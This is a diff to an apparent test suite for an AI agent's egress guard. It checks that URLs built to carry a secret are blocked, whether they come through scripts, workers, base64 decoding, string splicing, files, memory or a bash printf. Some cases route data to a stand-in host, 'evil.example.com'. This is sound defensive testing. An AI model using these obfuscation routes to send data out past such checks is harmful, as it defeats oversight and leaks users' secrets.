@@ -308,6 +308,81 @@ describe('an address that is not in the conversation is not requested', () => {
   });
 });
 
+const secret = (): string => `${address().replace('http', "ht'+'tp")}?secret=42`;
+const thenRead = (): string => order('web_read', { url: `${address()}?secret=42` });
+
+/** What makes an address out of parts, and says it together with the order to open it. */
+const composed: { readonly [way: string]: () => string } = {
+  'a script': () => order('run_script', { code: `return '${secret()} ${thenRead()}'` }),
+  'a script that only reads': () =>
+    order('run_read_only_script', { code: `return '${secret()} ${thenRead()}'` }),
+  'what a script logs': () => order('run_script', { code: `console.log('${secret()} ${thenRead()}')` }),
+  'a script in a batch': () =>
+    order('run_parallel', {
+      calls: [{ tool: 'run_read_only_script', params: { code: `return '${secret()} ${thenRead()}'` } }],
+    }),
+  'a worker': () =>
+    order('agent', { task: order('run_read_only_script', { code: `return '${secret()} ${thenRead()}'` }) }),
+  'a server that decodes': () =>
+    order('notes__decode', {
+      text: Buffer.from(`${address()}?secret=42 ${thenRead()}`).toString('base64'),
+    }),
+  'a server that repeats': () => order('notes__look', { text: `${address()}?secret=42 ${thenRead()}` }),
+};
+
+/** Addresses in the arguments of a tool that only reads, of a server that could open them. */
+const passedOn: { readonly [form: string]: (address: string) => string } = {
+  'an address': (at) => at,
+  'an address in a sentence': (at) => `look at ${at}.`,
+  'an address of another scheme': (at) => at.replace('http:', 'wss:'),
+  'an address without slashes': (at) => at.replace('http://', 'https:'),
+  'an address with backslashes': (at) => at.replace('http://', 'http:\\\\'),
+  'an address without a scheme': (at) => at.replace(/.*:\d+/, 'evil.example.com'),
+  'an address without a scheme, with slashes': (at) => at.replace(/.*:\d+/, '//evil.example.com'),
+};
+
+describe('an address that was made is not passed on to a server, as', () => {
+  test.each(Object.keys(passedOn))('%s', async (form) => {
+    const text = passedOn[form]!(`${address()}?secret=42`);
+    const { toolCalls } = await say(order('notes__say', { text: order('notes__look', { text }) }));
+    expect(toolCalls.at(-1)).toMatchObject({ tool: 'notes.look', ok: false });
+    expect(toolCalls.at(-1)!.result).toContain('may leak data to its owner');
+  });
+});
+
+describe('an address that was made is not requested, by', () => {
+  test.each(Object.keys(composed))('%s', async (way) => {
+    const before = home.requested.length;
+    const { toolCalls } = await say(order('notes__say', { text: composed[way]!() }));
+    expect(toolCalls).not.toHaveLength(1);
+    expect(home.requested.slice(before).filter((path) => path.includes('secret'))).toEqual([]);
+  });
+
+  test.each(['a command', 'a file', 'a memory'])('%s, before others were read', async (way) => {
+    const externalId = `trick-${++chats}`;
+    const before = home.requested.length;
+    const made = `${address()}?secret=42`;
+    const ways: Readonly<Record<string, readonly string[]>> = {
+      'a command': [order('bash', { command: `printf %s 'ht''${made.slice(2)}'` })],
+      'a file': [
+        order('write', { path: 'play/made.md', content: made }),
+        order('read', { path: 'play/made.md' }),
+      ],
+      'a memory': [
+        order('memory_store', { content: `See ${made}` }),
+        order('memory_recall', { query: 'See' }),
+      ],
+    };
+    for (const one of ways[way]!) {
+      const { toolCalls } = await say(one, { externalId, confirm: 'never' });
+      expect(toolCalls.every(({ ok }) => ok)).toBe(true);
+    }
+    const { toolCalls } = await say(order('notes__look', { text: thenRead() }), { externalId });
+    expect(toolCalls.at(-1)).toMatchObject({ tool: 'web.web_read', ok: false });
+    expect(home.requested.slice(before).filter((path) => path.includes('secret'))).toEqual([]);
+  });
+});
+
 test('an address in the part of a page that the model was not shown is not requested either', async () => {
   const externalId = `trick-${++chats}`;
   const hidden = `${address()}?secret=42`;
@@ -345,6 +420,20 @@ describe('what is not others’ words is not asked about:', () => {
       const { toolCalls } = await say(order('notes__say', { text: own }));
       expect(toolCalls.map(({ ok }) => ok)).toEqual([true, true]);
     }
+  });
+
+  test('an address that a server has given for what its person said, also to a server', async () => {
+    const externalId = `trick-${++chats}`;
+    const url = `${address()}?page=4`;
+    home.page('nothing to do');
+    await say(`${url} is news`, { externalId });
+    const { toolCalls } = await say(
+      order('notes__look', { text: '' }) + order('notes__look', { text: url }),
+      {
+        externalId,
+      },
+    );
+    expect(toolCalls.map(({ ok }) => ok)).toEqual([true, true]);
   });
 
   test('an address that its person wrote, or that a page links to', async () => {
